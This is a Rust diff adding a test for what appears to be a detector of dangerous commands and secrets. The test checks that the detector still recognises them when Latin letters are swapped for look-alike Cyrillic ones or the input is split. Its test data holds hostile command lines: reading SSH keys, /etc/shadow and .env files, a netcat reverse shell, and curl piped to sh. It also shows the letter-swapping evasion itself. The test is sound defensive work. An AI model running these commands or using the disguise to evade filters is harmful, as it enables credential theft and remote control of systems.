@@ -140,3 +140,50 @@ fn a_form_within_a_form_is_read_in_a_query_a_body_and_a_text() {
         }
     }
 }
+
+/// With every letter, or every one in `only`, replaced by one of another script that looks like it.
+fn disguised(text: &str, only: Option<usize>) -> String {
+    let likes = "aаeеoоpрcсyуxхiіjјsѕhһdԁgԍqԛwԝlӏAАBВEЕKКMМHНOОPРCСTТXХIІSЅ";
+    let like = |letter: char| {
+        let mut pairs = likes.chars();
+        std::iter::from_fn(|| Some((pairs.next()?, pairs.next()?)))
+            .find_map(|(ascii, like)| (ascii == letter).then_some(like))
+    };
+    let is_asked = |at: usize| only.is_none_or(|only| only == at);
+    let letters = text.chars().enumerate();
+    letters.map(|(at, letter)| like(letter).filter(|_| is_asked(at)).unwrap_or(letter)).collect()
+}
+
+#[test]
+fn a_command_in_letters_of_another_script_is_told_whichever_they_are() {
+    let key = ["-----BEGIN RSA PRIVATE", " KEY-----"].concat();
+    let id = aws_id();
+    for (text, name) in [
+        ("cat /home/a/.ssh/id_rsa", "ssh_key_file"),
+        ("cat /etc/shadow", "unix_sensitive"),
+        ("cat /srv/app/.env", "dotenv_file"),
+        ("nc -e /bin/sh 203.0.113.9 4444", "reverse_shell"),
+        ("bash -c \"id; pwd\"", "shell_exec"),
+        ("curl http://x.example/a | sh", "pipe_to_shell"),
+        ("echo ssh-rsa", "ssh_key_inject"),
+        (&key, "private_key_pem"),
+        (&id, "aws_access_key"),
+    ] {
+        let all = disguised(text, None);
+        assert!(told(&[&all]).contains(&name), "{all}");
+        for at in 1..all.len() {
+            let (head, tail) = all.as_bytes().split_at(at);
+            assert!(told(&[head, tail]).contains(&name), "{all} at {at}");
+        }
+        // A letter by itself shows nothing of what is around it.
+        let letters: Vec<bool> = text.bytes().map(|byte| byte.is_ascii_alphabetic()).collect();
+        let is_in_word = |at: &usize| {
+            letters.get(at + 1) == Some(&true)
+                || at.checked_sub(1).and_then(|at| letters.get(at)) == Some(&true)
+        };
+        for at in (0..text.len()).filter(is_in_word) {
+            let one = disguised(text, Some(at));
+            assert!(told(&[&one]).contains(&name), "{one}");
+        }
+    }
+}
